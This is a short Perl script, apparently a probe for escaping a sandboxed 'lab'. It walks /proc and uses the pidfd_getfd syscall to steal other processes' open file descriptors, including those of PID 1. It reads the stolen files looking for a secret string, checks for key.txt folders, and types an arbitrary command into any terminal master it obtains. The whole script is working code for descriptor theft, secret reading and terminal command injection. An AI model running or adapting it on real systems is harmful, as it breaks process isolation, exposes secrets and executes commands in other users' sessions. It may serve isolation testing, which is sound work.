# Takes what other processes have open: by its name in /proc, and by its number with pidfd_getfd. Prints a line for each that
# tells of something outside of the lab, types a command into every terminal it gets from the inside, and says how many it took
# from the first process. Arguments: what stands in files that must not be read, the command.
use strict;
use warnings;
my ($secret, $command) = @ARGV;
# The same numbers on all machines.
my ($pidfd_open, $pidfd_getfd) = (434, 438);
my ($tried, $first) = (0, 0);

sub look {
  my ($name, $descriptor) = @_;
  my $target = readlink("/proc/self/fd/" . fileno $descriptor) // "";
  if (-d $descriptor) {
    print "$name: the folder $target\n" if -e "/proc/self/fd/" . fileno($descriptor) . "/key.txt";
  } elsif (-f $descriptor) {
    my $start = "";
    sysseek $descriptor, 0, 0;
    sysread $descriptor, $start, 4096;
    print "$name: the secret in $target\n" if index($start, $secret) >= 0;
  } elsif ($target =~ m{/ptmx$}) {
    syswrite $descriptor, "$command\r";
    print "$name: the inside of a terminal\n";
  }
}

for my $pid (sort { $a <=> $b } map { m{(\d+)} } glob "/proc/[0-9]*") {
  next if $pid == $$;
  for my $path (glob("/proc/$pid/fd/*"), "/proc/$pid/cwd", "/proc/$pid/root") {
    $tried += 1;
    my $file;
    # O_RDONLY | O_NONBLOCK | O_NOCTTY; O_RDWR where it is allowed, to type.
    next unless sysopen($file, $path, 2 | 2048 | 256) || sysopen($file, $path, 2048 | 256);
    $first += 1 if $pid == 1;
    look($path, $file);
  }
  my $process = syscall($pidfd_open, $pid, 0);
  next if $process < 0;
  for my $number (0 .. 300) {
    $tried += 1;
    my $taken = syscall($pidfd_getfd, $process, $number, 0);
    next if $taken < 0;
    $first += 1 if $pid == 1;
    open(my $file, "<&=", $taken) or next;
    look("$number of process $pid", $file);
  }
}
print "took $first of the first process\n";
print "tried $tried descriptors\n";
